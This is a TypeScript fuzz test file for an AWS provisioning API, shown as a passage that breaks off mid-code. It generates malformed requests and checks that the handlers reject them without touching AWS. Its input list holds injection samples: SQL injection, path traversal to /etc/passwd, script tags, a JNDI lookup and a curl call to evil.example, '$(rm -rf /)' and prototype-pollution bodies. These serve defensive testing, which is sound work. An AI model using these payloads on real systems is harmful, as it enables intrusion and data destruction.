import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import fc from 'fast-check';
import { mockClient } from 'aws-sdk-client-mock';
import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { EC2Client } from '@aws-sdk/client-ec2';
import { EKSClient } from '@aws-sdk/client-eks';
import { ElasticLoadBalancingV2Client } from '@aws-sdk/client-elastic-load-balancing-v2';
import { EventBridgeClient } from '@aws-sdk/client-eventbridge';
import { IAMClient } from '@aws-sdk/client-iam';
import { LambdaClient } from '@aws-sdk/client-lambda';
import { Route53Client } from '@aws-sdk/client-route-53';
import { S3Client } from '@aws-sdk/client-s3';
import { ServiceQuotasClient } from '@aws-sdk/client-service-quotas';
import { SFNClient, StartExecutionCommand } from '@aws-sdk/client-sfn';
import { STSClient } from '@aws-sdk/client-sts';
import type { CloudFormationCustomResourceEvent } from 'aws-lambda';
import { clearClientCache } from '../../shared/aws/clients';
import { CREATE_FAILED_MARKER } from '../../shared/cfn/identity';
import { parseRequest } from '../../shared/request';
import { handler as startRoute } from '../../functions/api/start-provisioning';
import { handler as validateRoute } from '../../functions/api/validate-request';
import { handler as getRoute } from '../../functions/api/get-provisioning';
import { handler as deleteRoute } from '../../functions/api/delete-provisioning';
import { handler as listRoute } from '../../functions/api/list-provisionings';
import { handler as oidcRoute } from '../../functions/api/update-oidc';
import { handler as vpcCheckRoute } from '../../functions/api/check-vpc';
import { handler as cfnProvider } from '../../functions/cfn/provider';
import { handler as validateInputStep } from '../../functions/steps/validate-input';
import { handler as validateTeardownStep } from '../../functions/steps/validate-teardown-input';
import { PROBLEM_CONTENT_TYPE, MAX_BODY_BYTES } from '../../functions/api/problems';
import type { ApiEvent, ApiResult } from '../../functions/api/http';
import { lambdaContext } from '../fixtures/api-events';
import { fullRequest, teardownRequest } from '../helpers/workflow';

/**
 * Bad input, generated (issue 13; requirements V1-V3, V7-V10, R4, S1, S2, X1 say what a good request is): at least
 * 10,000 inputs per run through the real handlers, the HTTP API routes (bodies, headers, path parameters, query
 * strings as API Gateway HTTP API v2 events), the custom resource (Create / Update / Delete properties; it answers
 * the presigned ResponseURL, here a local server) and a console start (ValidateInput, ValidateTeardownInput).
 *
 * The property, for every input: a 4xx problem (`application/problem+json`; a 400 names each bad field), a custom
 * resource answer FAILED naming the field (SUCCESS for a Delete: invalid properties made nothing), or a step error
 * `InvalidInputError` naming the field; never a 5xx, never a crash, never an execution started and never an AWS call
 * (every SDK client is mocked to refuse and count).
 *
 * The seed is fixed and printed; `BYOC_FUZZ_SEED=<n>` replays another one, `BYOC_FUZZ_SCALE=<x>` runs x times as many.
 */

const SEED = Number(process.env.BYOC_FUZZ_SEED ?? 20261126);
const SCALE = Number(process.env.BYOC_FUZZ_SCALE ?? 1);
const runs = (n: number) => Math.max(1, Math.round(n * SCALE));

const PROVISION = 'arn:aws:states:us-west-2:123456789012:stateMachine:byoc-provision-fuzz';
const TEARDOWN = 'arn:aws:states:us-west-2:123456789012:stateMachine:byoc-teardown-fuzz';
const STACK = 'arn:aws:cloudformation:us-west-2:123456789012:stack/app/1234';
const SUPPORTED_REGIONS = ['us-west-2', 'eu-central-1', 'us-east-1', 'eu-west-1', 'ap-east-1'];

// ---- every AWS client refuses, and every call is counted -----------------------------------------------------
const CLIENTS = { DynamoDBClient, EC2Client, EKSClient, ElasticLoadBalancingV2Client, EventBridgeClient, IAMClient, LambdaClient, Route53Client, S3Client, ServiceQuotasClient, SFNClient, STSClient };
const mocks = Object.entries(CLIENTS).map(([name, client]) => ({ name, mock: mockClient(client as never) }));
const awsCallCount = () => mocks.reduce((n, m) => n + m.mock.calls().length, 0);
const awsCallNames = () => mocks.flatMap((m) => m.mock.calls().map((c) => `${m.name}.${(c.args[0] as object).constructor.name}`));

// ---- CloudFormation's presigned ResponseURL, captured locally -------------------------------------------------
const answers: { Status: string; Reason: string; PhysicalResourceId: string }[] = [];
const server = createServer((req, res) => {
  const chunks: Buffer[] = [];
  req.on('data', (c: Buffer) => chunks.push(c));
  req.on('end', () => {
    answers.push(JSON.parse(Buffer.concat(chunks).toString('utf8')));
    res.end();
  });
});
let responseUrl = '';

const counts: Record<string, number> = {};
let bugs: string[] = [];
const count = (surface: string) => (counts[surface] = (counts[surface] ?? 0) + 1);

beforeAll(async () => {
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  responseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/bucket/key?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAFUZZ%2F20261126&X-Amz-Signature=feedface`;
  process.env.PROVISION_STATE_MACHINE_ARN = PROVISION;
  process.env.TEARDOWN_STATE_MACHINE_ARN = TEARDOWN;
  process.env.REGISTRY_TABLE_NAME = 'byoc-registry-fuzz';
  process.env.BYOC_CFN_POLL_SECONDS = '0';
  process.env.BYOC_CFN_RESPONSE_RETRY_SECONDS = '0';
  clearClientCache();
  for (const { mock } of mocks) mock.onAnyCommand().rejects(new Error('bad input must never reach AWS'));
  process.stdout.write(`\nbad input: fast-check seed ${SEED} (replay: BYOC_FUZZ_SEED=${SEED}), scale ${SCALE}\n`);
});
afterAll(() => {
  server.close();
  for (const name of ['BYOC_CFN_POLL_SECONDS', 'BYOC_CFN_RESPONSE_RETRY_SECONDS', 'REGISTRY_TABLE_NAME', 'PROVISION_STATE_MACHINE_ARN', 'TEARDOWN_STATE_MACHINE_ARN']) delete process.env[name];
  const total = Object.values(counts).reduce((a, b) => a + b, 0);
  const lines = Object.entries(counts).map(([k, v]) => `  ${k.padEnd(44)} ${v}`);
  process.stdout.write(`\nbad input: ${total} generated inputs (seed ${SEED})\n${lines.join('\n')}\n  AWS calls: ${awsCallCount()}, StartExecution: ${sfnMock().commandCalls(StartExecutionCommand).length}\n`);
});
const sfnMock = () => mocks.find((m) => m.name === 'SFNClient')!.mock;

// ---- the request, and what makes each field bad (from the README's request table, independent of the schema) --

const TARGET = { roleArn: 'arn:aws:iam::111122223333:role/zilliz-byoc-provisioner', externalId: 'cid-0a1b2c3d4e5f6071' };
/** A request with every field set, valid: each generated input breaks it in one known place. */
const BASE = fullRequest('fuzz-1', {
  targetAccount: TARGET,
  network: {
    vpcCidr: '10.1.0.0/16',
    availabilityZones: ['us-west-2a', 'us-west-2b', 'us-west-2c'],
    securityGroup: { ingressCidrs: ['10.0.0.0/8'], egressCidrs: ['0.0.0.0/0'], strict: false },
    vpcEndpoint: { enabled: true },
    privateDns: { enabled: true },
    s3GatewayEndpoint: { enabled: true },
  },
  bucket: { kmsKeyArn: 'arn:aws:kms:us-west-2:123456789012:key/0a1b2c3d-0a1b-0a1b-0a1b-0a1b2c3d4e5f' },
  tags: { team: 'vector-db', env: 'prod' },
}) as Record<string, unknown>;
(BASE.iamRole as Record<string, unknown>).path = '/';
(BASE.iamRole as Record<string, unknown>).permissionsBoundaryArn = 'arn:aws:iam::123456789012:policy/boundary';
(BASE.storageRole as Record<string, unknown>).permissionsBoundaryArn = 'arn:aws:iam::123456789012:policy/boundary';

type Kind = 'string' | 'boolean' | 'array' | 'object';
const FIELDS: [string, Kind][] = [
  ['provisioningId', 'string'],
  ['projectName', 'string'],
  ['region', 'string'],
  ['targetAccount', 'object'],
  ['targetAccount.roleArn', 'string'],
  ['targetAccount.externalId', 'string'],
  ['network', 'object'],
  ['network.vpcCidr', 'string'],
  ['network.availabilityZones', 'array'],
  ['network.securityGroup', 'object'],
  ['network.securityGroup.ingressCidrs', 'array'],
  ['network.securityGroup.egressCidrs', 'array'],
  ['network.securityGroup.strict', 'boolean'],
  ['network.vpcEndpoint', 'object'],
  ['network.vpcEndpoint.enabled', 'boolean'],
  ['network.privateDns', 'object'],
  ['network.privateDns.enabled', 'boolean'],
  ['network.s3GatewayEndpoint.enabled', 'boolean'],
  ['iamRole', 'object'],
  ['iamRole.name', 'string'],
  ['iamRole.path', 'string'],
  ['iamRole.permissionsBoundaryArn', 'string'],
  ['iamRole.oidcIssuerUrl', 'string'],
  ['bucket', 'object'],
  ['bucket.name', 'string'],
  ['bucket.existing', 'boolean'],
  ['bucket.kmsKeyArn', 'string'],
  ['storageRole', 'object'],
  ['storageRole.name', 'string'],
  ['storageRole.permissionsBoundaryArn', 'string'],
  ['crossAccountRole', 'object'],
  ['crossAccountRole.externalId', 'string'],
  ['crossAccountRole.name', 'string'],
  ['crossAccountRole.permissionsBoundaryArn', 'string'],
  ['tags', 'object'],
];
const OBJECTS = ['', ...FIELDS.filter(([, k]) => k === 'object').map(([p]) => p)].filter((p) => p !== 'tags');
const REQUIRED = ['projectName', 'region', 'crossAccountRole', 'crossAccountRole.externalId', 'targetAccount.roleArn', 'targetAccount.externalId'];

const isIp = (s: string) => /^\d+\.\d+\.\d+\.\d+$/.test(s);
/** What the README says a good value is, field by field: the generators keep only values these refuse. */
const GOOD: Record<string, (s: string) => boolean> = {
  provisioningId: (s) => /^[A-Za-z0-9][A-Za-z0-9_-]{0,63}$/.test(s) && !s.includes('--update-'),
  projectName: (s) => /^[a-z0-9]([a-z0-9-]{0,30}[a-z0-9])?$/.test(s),
  region: (s) => s === 'us-west-2', // another supported region breaks the zones (V3) and private DNS (V10) of BASE: still bad
  'targetAccount.roleArn': (s) => /^arn:aws(-cn|-us-gov)?:iam::\d{12}:role\/[\w+=,.@/-]{1,512}$/.test(s),
  'targetAccount.externalId': (s) => /^[\w+=,.@:/-]{2,1224}$/.test(s),
  'crossAccountRole.externalId': (s) => /^[\w+=,.@:/-]{2,1224}$/.test(s),
  'iamRole.name': (s) => /^zilliz-byoc[\w+=,.@-]{0,53}$/.test(s) && s !== (BASE.storageRole as { name: string }).name && s !== (BASE.crossAccountRole as { name: string }).name,
  'storageRole.name': (s) => /^zilliz-byoc[\w+=,.@-]{0,53}$/.test(s) && s !== (BASE.iamRole as { name: string }).name && s !== (BASE.crossAccountRole as { name: string }).name,
  'crossAccountRole.name': (s) => /^zilliz-byoc[\w+=,.@-]{0,53}$/.test(s) && s !== (BASE.iamRole as { name: string }).name && s !== (BASE.storageRole as { name: string }).name,
  'iamRole.path': (s) => s === '/',
  'iamRole.permissionsBoundaryArn': (s) => /^arn:aws(-cn|-us-gov)?:iam::(\d{12}|aws):policy\/[\w+=,.@/-]+$/.test(s),
  'storageRole.permissionsBoundaryArn': (s) => /^arn:aws(-cn|-us-gov)?:iam::(\d{12}|aws):policy\/[\w+=,.@/-]+$/.test(s),
  'crossAccountRole.permissionsBoundaryArn': (s) => /^arn:aws(-cn|-us-gov)?:iam::(\d{12}|aws):policy\/[\w+=,.@/-]+$/.test(s),
  'iamRole.oidcIssuerUrl': (s) => /^https:\/\/[^\s/]+(\/\S*)?$/.test(s),
  'bucket.name': (s) => /^[a-z0-9][a-z0-9.-]{1,61}[a-z0-9]$/.test(s) && !s.includes('..') && !isIp(s) && !/^(xn--|sthree-|amzn-s3-demo-)/.test(s) && !/(-s3alias|--ol-s3|--x-s3)$/.test(s),
  'bucket.kmsKeyArn': (s) => /^arn:aws(-cn|-us-gov)?:kms:us-west-2:\d{12}:key\/([0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}|mrk-[0-9a-f]{32})$/.test(s),
  'network.vpcCidr': (s) => vpcCidrIsGood(s),
};

/** V2: a /16, host bits zero, in 10/8, 172.16/12, 192.168/16 or 100.64/10. */
function vpcCidrIsGood(cidr: string): boolean {
  const m = /^(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})\/(\d{1,2})$/.exec(cidr);
  if (!m) return false;
  const [a, b, c, d, mask] = m.slice(1).map(Number);
  if ([a, b, c, d].some((o) => o > 255) || mask !== 16 || c !== 0 || d !== 0) return false;
  return a === 10 || (a === 172 && b >= 16 && b <= 31) || (a === 192 && b === 168) || (a === 100 && b >= 64 && b <= 127);
}
/** V7: any IPv4 CIDR block. */
const sgCidrIsGood = (cidr: string) => {
  const m = /^(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})\/(\d{1,2})$/.exec(cidr);
  return !!m && m.slice(1, 5).every((o) => Number(o) <= 255) && Number(m[5]) <= 32;
};

const INJECTIONS = [
  "'; DROP TABLE provisionings; --",
  '" OR "1"="1',
  '../../../../etc/passwd',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '$(rm -rf /)',
  '`id`',
  '|| curl evil.example',
  '%00',
  '\u0000',
  '\u0007',
  '\n',
  '\r\n',
  '\t',
  '\u202e',
  '\u200b',
  '\ufeff',
  '\ud83d\ude00',
  'ünïcödé',
  '東京',
  '\\',
  '"',
  ' ',
  'arn:aws:iam::123456789012:role/*',
  '*',
  '__proto__',
  'constructor',
];

const anyText = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.tuple(fc.string({ maxLength: 12 }), fc.constantFrom(...INJECTIONS), fc.string({ maxLength: 12 })).map((p) => p.join('')),
  fc.constantFrom(...INJECTIONS),
  fc.integer({ min: 65, max: 3000 }).chain((n) => fc.constantFrom('a', 'zilliz-byoc-', 'x.', '1').map((c) => c.repeat(Math.ceil(n / c.length)).slice(0, n))),
  fc.constant(''),
);

/** A value of any JSON type but `kind` (CloudFormation: only what survives its all-strings properties). */
function wrongType(kind: Kind, cfn = false): fc.Arbitrary<unknown> {
  const scalar = fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.boolean(), fc.constant(null), anyText);
  const array = fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 4 });
  const object = fc.dictionary(fc.string({ minLength: 1, maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 4 });
  const all = fc.oneof(scalar, array, object).filter((v) => {
    if (kind === 'string') return typeof v !== 'string';
    if (kind === 'boolean') return typeof v !== 'boolean' && !(cfn && (v === 'true' || v === 'false'));
    if (kind === 'array') return !Array.isArray(v);
    return v === null || typeof v !== 'object' || Array.isArray(v);
  });
  // CloudFormation sends every scalar as a string: a string in a string field is no wrong type there.
  return cfn && kind === 'string' ? all.filter((v) => v !== null && typeof v === 'object') : cfn ? all.filter((v) => v !== null) : all;
}

const clone = <T>(v: T): T => JSON.parse(JSON.stringify(v)) as T;
function setPath(target: Record<string, unknown>, path: string, value: unknown): void {
  const keys = path.split('.');
  let node = target;
  for (const key of keys.slice(0, -1)) {
    if (node[key] === null || typeof node[key] !== 'object') node[key] = {};
    node = node[key] as Record<string, unknown>;
  }
  Object.defineProperty(node, keys[keys.length - 1], { value, enumerable: true, writable: true, configurable: true });
}
function deletePath(target: Record<string, unknown>, path: string): void {
  const keys = path.split('.');
  let node = target;
  for (const key of keys.slice(0, -1)) {
    if (node[key] === undefined) node[key] = {};
    node = node[key] as Record<string, unknown>;
  }
  delete node[keys[keys.length - 1]];
}

/** A broken request and the field(s) an answer must name. */
interface Mutant {
  kind: string;
  request: Record<string, unknown>;
  fields: string[];
}

const ipv4 = fc.tuple(fc.integer({ min: 0, max: 300 }), fc.integer({ min: 0, max: 300 }), fc.integer({ min: 0, max: 300 }), fc.integer({ min: 0, max: 300 }));
/** CIDRs of every mask (and a few past 32) over the whole address range, and strings that only look like one. */
const cidrText = fc.oneof(
  { weight: 8, arbitrary: fc.tuple(ipv4, fc.integer({ min: 0, max: 40 })).map(([ip, mask]) => `${ip.join('.')}/${mask}`) },
  { weight: 3, arbitrary: fc.tuple(fc.constantFrom(10, 172, 192, 100), fc.integer({ min: 0, max: 255 }), fc.constantFrom(0, 1, 128), fc.constantFrom(0, 1), fc.integer({ min: 8, max: 24 })).map(([a, b, c, d, m]) => `${a}.${b}.${c}.${d}/${m}`) },
  { weight: 1, arbitrary: fc.constantFrom('10.0.0.0', '10.0.0.0/', '/16', '10.0.0/16', '10.0.0.0.0/16', '10.0.0.0/16 ', ' 10.0.0.0/16', '10.0.0.0\n/16', '::/0', 'fd00::/8', '10.0.0.0/-1', '0x0a.0.0.0/16', '10.0.0.0/016', '') },
  { weight: 1, arbitrary: anyText },
);

function mutants(options: { cfn?: boolean } = {}): fc.Arbitrary<Mutant> {
  const cfn = options.cfn ?? false;
  const base = () => clone(BASE);
  const missing = fc.constantFrom(...REQUIRED).map((path): Mutant => {
    const request = base();
    deletePath(request, path);
    return { kind: 'missing required field', request, fields: [path] };
  });
  const wrong = fc
    .constantFrom(...FIELDS)
    .chain(([path, kind]) => wrongType(kind, cfn).map((value) => [path, value] as const))
    .map(([path, value]): Mutant => {
      const request = base();
      setPath(request, path, value);
      return { kind: 'wrong type', request, fields: [path] };
    });
  const unknownName = fc.oneof(fc.string({ minLength: 1, maxLength: 20 }), fc.string({ unit: 'binary', minLength: 1, maxLength: 20 }), fc.constantFrom(...INJECTIONS.filter((s) => s !== ''), 'vpcCdir', 'ServiceToken ', 'provisioningid', 'Region', 'prototype'));
  const unknown = fc.tuple(fc.constantFrom(...OBJECTS), unknownName, fc.jsonValue({ maxDepth: 2 })).map(([parent, name, value]): Mutant => {
    const request = base();
    const node = parent ? (parent.split('.').reduce((n, k) => n[k] as Record<string, unknown>, request) as Record<string, unknown>) : request;
    const known = new Set(Object.keys(node));
    const used = known.has(name) || (parent === '' && ['ServiceToken', 'ServiceTimeout'].includes(name)) ? `${name}_x` : name;
    Object.defineProperty(node, used, { value, enumerable: true, writable: true, configurable: true });
    return { kind: 'unknown field', request, fields: [parent ? `${parent}.${used}` : used] };
  });
  const badString = fc
    .constantFrom(...Object.keys(GOOD))
    .chain((path) => (path === 'network.vpcCidr' ? cidrText : anyText).filter((s) => !GOOD[path](s)).map((s) => [path, s] as const))
    .filter(([, s]) => !cfn || (s !== 'true' && s !== 'false'))
    .map(([path, value]): Mutant => {
      const request = base();
      setPath(request, path, value);
      // A provisioning ID is named by the stack on CloudFormation: any value of it is refused there, by that name.
      return { kind: path === 'network.vpcCidr' ? 'bad CIDR (V2)' : 'bad string', request, fields: [path] };
    });
  const sgCidrs = fc
    .tuple(fc.constantFrom('ingressCidrs', 'egressCidrs'), fc.array(cidrText, { minLength: 0, maxLength: 60 }))
    .filter(([, list]) => list.length === 0 || list.length > 50 || list.some((c) => !sgCidrIsGood(c)) || new Set(list).size !== list.length)
    .map(([key, list]): Mutant => {
      const request = base();
      setPath(request, `network.securityGroup.${key}`, list);
      return { kind: 'bad security group CIDRs (V7)', request, fields: [`network.securityGroup.${key}`] };
    });
  const zones = fc
    .oneof(
      fc.array(fc.constantFrom('us-west-2a', 'us-west-2b', 'us-west-2c', 'us-west-2d'), { minLength: 0, maxLength: 6 }).filter((z) => z.length !== 3 || new Set(z).size !== 3),
      fc.tuple(fc.constantFrom('us-west-2a', 'us-west-2b'), fc.constantFrom('eu-central-1a', 'us-east-1a', 'mars-1a'), fc.constantFrom('us-west-2c')).map((z) => [...z]),
      fc.array(anyText, { minLength: 3, maxLength: 3 }),
    )
    .map((list): Mutant => {
      const request = base();
      setPath(request, 'network.availabilityZones', list);
      return { kind: 'bad availability zones (V3)', request, fields: ['network.availabilityZones'] };
    });
  const tagKey = fc.oneof(fc.string({ minLength: 1, maxLength: 30 }), fc.constantFrom('aws:owner', 'AWS:x', 'Name<script>', 'a\u0000b', 'k'.repeat(129)));
  const tags = fc
    .oneof(
      // too many
      fc.dictionary(fc.stringMatching(/^[a-z]{1,10}$/), fc.stringMatching(/^[a-z]{0,10}$/), { minKeys: 21, maxKeys: 60 }),
      // a bad key
      tagKey.filter((k) => !/^(?!aws:)[\w .:/=+@-]{1,128}$/.test(k)).map((k) => ({ [k]: 'v' })),
      // a value too long, of the wrong type, or with characters IAM and S3 refuse in tag values
      fc.oneof(
        fc.integer({ min: 257, max: 5000 }).map((n) => 'v'.repeat(n)),
        wrongType('string', cfn),
        fc.constantFrom(...INJECTIONS).filter((s) => !/^[\p{L}\p{Z}\p{N}_.:/=+\-@]*$/u.test(s)),
      ).map((v) => ({ team: v })),
    )
    .map((t): Mutant => {
      const request = base();
      const own = Object.create(null) as Record<string, unknown>;
      for (const [k, v] of Object.entries(t)) Object.defineProperty(own, k, { value: v, enumerable: true, writable: true, configurable: true });
      request.tags = own;
      return { kind: 'oversized or bad tags (V8)', request, fields: ['tags'] };
    });
  const rules = fc
    .constantFrom(
      (): Mutant => {
        const request = base();
        (request.network as Record<string, unknown>).vpcEndpoint = { enabled: false };
        return { kind: 'options that need each other', request, fields: ['network.privateDns.enabled'] };
      },
      (): Mutant => {
        const request = base();
        request.bucket = { existing: true };
        return { kind: 'options that need each other', request, fields: ['bucket.name'] };
      },
      (): Mutant => {
        const request = base();
        (request.storageRole as Record<string, unknown>).name = (request.iamRole as Record<string, unknown>).name;
        return { kind: 'options that need each other', request, fields: ['storageRole.name'] };
      },
      (): Mutant => {
        const request = base();
        request.targetAccount = { roleArn: TARGET.roleArn };
        return { kind: 'role ARN without external ID (X1)', request, fields: ['targetAccount.externalId'] };
      },
    )
    .map((make) => make());
  const all = [missing, wrong, unknown, badString, sgCidrs, zones, tags, rules];
  return fc.oneof(...all);
}

/** Any JSON document, from tiny to deep and wide. */
const deepDocument = fc.tuple(fc.integer({ min: 20, max: 12_000 }), fc.constantFrom('a', 'network', 'tags', 'crossAccountRole')).map(([depth, key]) => ({
  text: `{"projectName":"demo","region":"us-west-2","crossAccountRole":{"externalId":"cid-123"},${`"${key}":{"x":`.slice(0)}${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}}}`,
  field: key,
}));

// ---- oracles ---------------------------------------------------------------------------------------------------

const matches = (field: string, expected: string) => field === expected || field.startsWith(`${expected}.`);

function fail(what: string, detail: unknown): never {
  bugs.push(what);
  throw new Error(`${what}: ${typeof detail === 'string' ? detail : JSON.stringify(detail)?.slice(0, 2000)}`);
}

/** A 4xx problem (RFC 9457); a 400 names each field, at least one of `fields` when given. */
function expectProblem(res: ApiResult, fields?: string[], status?: number): Record<string, unknown> {
  const code = res.statusCode ?? 0;
  if (code < 400 || code > 499) fail(`answered ${code}`, res.body);
  if (status !== undefined && code !== status) fail(`answered ${code}, not ${status}`, res.body);
  if (res.headers?.['content-type'] !== PROBLEM_CONTENT_TYPE) fail('not application/problem+json', res.headers);
  const body = JSON.parse(String(res.body)) as Record<string, unknown>;
  if (body.status !== code || typeof body.type !== 'string' || !String(body.type).startsWith('/problems/') || typeof body.title !== 'string' || typeof body.detail !== 'string') fail('not a problem document', body);
  if (code === 400) {
    const errors = body.errors as { field: unknown; rule: unknown }[];
    if (!Array.isArray(errors) || errors.length === 0) fail('a 400 without errors', body);
    for (const e of errors) if (typeof e.field !== 'string' || e.field === '' || typeof e.rule !== 'string' || e.rule === '') fail('an error without field or rule', e);
    if (fields && !errors.some((e) => fields.some((f) => matches(e.field as string, f)))) fail(`400 does not name ${fields.join(' or ')}`, errors);
  }
  return body;
}

/** Run one input; nothing may reach AWS. */
async function noAwsCall<T>(surface: string, run: () => Promise<T>): Promise<T> {
  const before = awsCallCount();
  count(surface);
  const out = await run();
  if (awsCallCount() !== before) fail(`${surface}: bad input reached AWS`, awsCallNames().slice(before));
  return out;
}

function event(routeKey: string, options: { body?: string; id?: string; headers?: Record<string, string>; query?: Record<string, string>; base64?: boolean }): ApiEvent {
  const [method, path] = routeKey.split(' ');
  return {
    version: '2.0',
    routeKey,
    rawPath: path.replace('{id}', encodeURIComponent(options.id ?? '')),
    rawQueryString: new URLSearchParams(options.query ?? {}).toString(),
    headers: options.headers ?? { 'content-type': 'application/json' },
    requestContext: {
      accountId: '123456789012',
      apiId: 'api',
      domainName: 'api.example',
      domainPrefix: 'api',
      http: { method, path, protocol: 'HTTP/1.1', sourceIp: '127.0.0.1', userAgent: 'fuzz' },
      requestId: 'req-fuzz',
      routeKey,
      stage: '$default',
      time: '',
      timeEpoch: 0,
    },
    pathParameters: options.id === undefined ? undefined : { id: options.id },
    queryStringParameters: options.query,
    body: options.body as unknown,
    isBase64Encoded: options.base64 ?? false,
  } as ApiEvent;
}

type Route = (event: ApiEvent, context: ReturnType<typeof lambdaContext>) => Promise<ApiResult>;
const call = (route: unknown, e: ApiEvent) => (route as Route)(e, lambdaContext(20_000));
const jsonHeaders = (extra: Record<string, string> = {}) => ({ 'content-type': 'application/json', ...extra });

const BODY_ROUTES: [string, unknown][] = [
  ['POST /provisionings', startRoute],
  ['POST /validate', validateRoute],
];

describe('bad input through the real handlers (property-based, fast-check)', () => {
  it('the base request is valid, so each generated input is bad only where it was broken', () => {
    expect(() => parseRequest(clone(BASE))).not.toThrow();
  });

  it('POST /provisionings and /validate: a broken request is a 400 naming the field; nothing starts', async () => {
    await fc.assert(
      fc.asyncProperty(mutants(), fc.constantFrom(...BODY_ROUTES), fc.constantFrom('application/json', 'application/json; charset=utf-8', 'application/problem+json'), async (m, [routeKey, route], contentType) => {
        const res = await noAwsCall(`API ${routeKey} (${m.kind})`, () => call(route, event(routeKey, { body: JSON.stringify(m.request), headers: { 'content-type': contentType } })));
        expectProblem(res, m.fields, 400);
      }),
      { seed: SEED, numRuns: runs(4000) },
    );
  });

  it('POST /provisionings: malformed, non-object, huge and deep bodies, any content-type and content-length', async () => {
    const valid = JSON.stringify(BASE);
    const parses = (text: string) => {
      try {
        JSON.parse(text);
        return true;
      } catch {
        return false;
      }
    };
    // Cut or spliced JSON: only what no longer parses (a cut that leaves a valid request is no bad input).
    const body = fc.oneof(
      { weight: 3, arbitrary: fc.tuple(fc.integer({ min: 0, max: valid.length - 1 }), fc.integer({ min: 1, max: 40 })).map(([at, cut]) => valid.slice(0, at) + valid.slice(at + cut)).filter((t) => !parses(t)) },
      { weight: 2, arbitrary: fc.tuple(fc.integer({ min: 0, max: valid.length }), fc.constantFrom(...INJECTIONS, ',', '}', '{', ':', 'NaN', '//', "'")).map(([at, s]) => valid.slice(0, at) + s + valid.slice(at)).filter((t) => !parses(t)) },
      { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 4 }).map((v) => JSON.stringify(v)) },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 200 }) },
      { weight: 1, arbitrary: fc.integer({ min: MAX_BODY_BYTES - 100, max: 4 * MAX_BODY_BYTES }).map((n) => `{"tags":{"k":"${'x'.repeat(n)}"}}`) },
      { weight: 1, arbitrary: deepDocument.map((d) => d.text) },
      { weight: 1, arbitrary: fc.integer({ min: 21, max: 3000 }).map((n) => JSON.stringify({ ...BASE, tags: Object.fromEntries(Array.from({ length: n }, (_, i) => [`k${i}`, 'v'])) })) },
      { weight: 1, arbitrary: fc.constantFrom('', ' ', 'null', 'true', '0', '[]', '"string"', '{}', '\u0000', '\ufeff{}', '{"__proto__":{"polluted":1}}', '{"constructor":{"prototype":{"x":1}}}') },
    );
    const headers = fc.record(
      {
        'content-type': fc.constantFrom('application/json', 'application/json; charset=utf-8', 'APPLICATION/JSON', 'text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml', 'json', ''),
        'content-length': fc.oneof(fc.nat().map(String), fc.constantFrom('-1', '0', '99999999999999999999', 'abc', '')),
        'idempotency-key': fc.oneof(fc.constant('fuzz-1'), anyText),
        'x-amz-date': fc.constantFrom('20261126T000000Z', 'garbage'),
      },
      { requiredKeys: [] },
    );
    await fc.assert(
      fc.asyncProperty(body, headers, fc.boolean(), async (text, hdrs, base64) => {
        const sent = base64 ? Buffer.from(text).toString('base64') : text;
        const res = await noAwsCall('API POST /provisionings (raw bodies, headers)', () => call(startRoute, event('POST /provisionings', { body: sent, headers: hdrs as Record<string, string>, base64 })));
        const answer = expectProblem(res);
        const isJson = /^application\/(.+\+)?json($|;.+)/.test(hdrs['content-type'] ?? '');
        if (Buffer.byteLength(text) > MAX_BODY_BYTES) expect(res.statusCode).toBe(413);
        else if (!isJson || !parses(text)) expect([answer.error, res.statusCode]).toEqual(['UnsupportedMediaType', 415]);
        else expect(res.statusCode).toBe(400);
      }),
      { seed: SEED + 1, numRuns: runs(1600) },
    );
  });

  it('POST /validate: a VPC CIDR of every mask and range is accepted exactly when V2 allows it, and so are security group CIDRs (V7)', async () => {
    await fc.assert(
      fc.asyncProperty(cidrText, cidrText, async (vpcCidr, sgCidr) => {
        const request = clone(BASE);
        (request.network as Record<string, unknown>).vpcCidr = vpcCidr;
        ((request.network as Record<string, unknown>).securityGroup as Record<string, unknown>).ingressCidrs = [sgCidr];
        const res = await noAwsCall('API POST /validate (CIDRs)', () => call(validateRoute, event('POST /validate', { body: JSON.stringify(request) })));
        const good = vpcCidrIsGood(vpcCidr) && sgCidrIsGood(sgCidr);
        if (good) expect(res.statusCode).toBe(200);
        else {
          const body = expectProblem(res, undefined, 400);
          const fields = (body.errors as { field: string }[]).map((e) => e.field);
          if (!vpcCidrIsGood(vpcCidr)) expect(fields).toContain('network.vpcCidr');
          if (!sgCidrIsGood(sgCidr)) expect(fields.some((f) => f.startsWith('network.securityGroup.ingressCidrs'))).toBe(true);
        }
      }),
      { seed: SEED + 2, numRuns: runs(700) },
    );
  });

  // An ID of the right shape (even `a--update-1`, which no provisioning has) is looked up: only the shape is bad input.
  const badId = fc.oneof(anyText, fc.string({ minLength: 65, maxLength: 200 }), fc.constantFrom('-x', '_x', 'a/b', 'a b', '..', '%2F', 'p-1%00')).filter((s) => !/^[A-Za-z0-9][A-Za-z0-9_-]{0,63}$/.test(s));
  const goodId = fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9_-]{0,20}$/).filter((s) => !s.includes('--update-'));

  it('GET and DELETE /provisionings/{id}, POST /provisionings/{id}/oidc: bad path parameters, query strings and bodies are 400s naming them', async () => {
    const badForce = anyText.filter((s) => s !== 'true' && s !== 'false');
    const badIssuer = fc.oneof(anyText.filter((s) => !GOOD['iamRole.oidcIssuerUrl'](s)), wrongType('string'));
    const oidcBody = fc.oneof(
